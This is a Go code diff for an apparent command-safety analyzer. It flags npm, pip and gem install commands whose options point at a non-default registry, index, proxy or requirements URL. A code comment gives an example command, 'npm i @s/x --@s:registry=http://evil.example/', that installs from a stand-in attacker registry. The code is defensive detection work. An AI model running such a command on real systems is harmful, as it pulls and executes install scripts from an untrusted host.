@@ -131,7 +131,7 @@ func npmModel() *Spec {
 	root.Judge = func(r *Result, words []string) {
 		judgeNpmPrefix(r, words)
 		computedPackage(r, npmRegistryVerbs, "npm")
-		remoteInstall(r)
+		remoteInstall(r, words)
 	}
 	return closed(root)
 }
@@ -272,6 +272,13 @@ func packageNames(prog string, verbs, installs, indexes map[string]bool, remote 
 			if ws[i] == "" || ws[i][0] == '-' {
 				name, val, attached := strings.Cut(ws[i], "=")
 				if !indexes[name] {
+					if indexOption(ws[i]) {
+						// --requirement=URL, --constraint=URL, --index=URL
+						// (an abbreviation), -iURL, gem's --source=URL.
+						r.Effects |= EffExec | EffComputed
+						r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: i, Why: prog + " " + whyIndexURL})
+						return
+					}
 					continue
 				}
 				if !attached && i+1 < len(ws) {
@@ -307,6 +314,18 @@ func packageNames(prog string, verbs, installs, indexes map[string]bool, remote 
 			}
 		}
 	}
+}
+
+// indexOption reports an option word that carries a URL other than the
+// default index's (--index=URL, --@s:registry=URL, -iURL, --proxy=URL):
+// whatever the option's spelling, a URL in it names where packages, or
+// the list of them, come from, and their build or install scripts run.
+func indexOption(w string) bool {
+	if w == "" || w[0] != '-' || !strings.Contains(w, "://") {
+		return false
+	}
+	_, val, _ := strings.Cut(w, "=")
+	return !defaultIndex(val)
 }
 
 // whyIndexURL is why an index, a registry or a page of links the command
@@ -353,13 +372,30 @@ const whyRemoteInstall = "installs a package fetched from a URL or a git reposit
 
 // remoteInstall finds an operand of npm's install commands that names a
 // package fetched from a URL or a git repository (RemotePackage).
-func remoteInstall(r *Result) {
+func remoteInstall(r *Result, words []string) {
 	installs := false
 	for _, it := range r.Items {
 		installs = installs || it.Spec != nil && (npmInstallVerbs[it.Spec.Name] || npmFetchVerbs[it.Spec.Name])
 	}
+	for _, w := range words[1:] {
+		if w != "" && w[0] != '-' {
+			// npm ci --proxy=URL: the command has no operand to say so.
+			v := npmResolve(w)
+			installs = installs || npmInstallVerbs[v] || npmFetchVerbs[v]
+			break
+		}
+	}
 	if !installs {
 		return
+	}
+	for i, w := range words {
+		if indexOption(w) {
+			// npm i @s/x --@s:registry=http://evil.example/: a scope's
+			// registry, a proxy, any option's URL.
+			r.Effects |= EffExec | EffComputed
+			r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: i, Why: "npm " + whyIndexURL})
+			return
+		}
 	}
 	for _, it := range r.Items {
 		if it.Kind == KindValue && it.Opt != nil && slices.Contains(it.Opt.Long, "registry") && (it.Computed || strings.Contains(it.Text, "://") && !defaultIndex(it.Text)) {
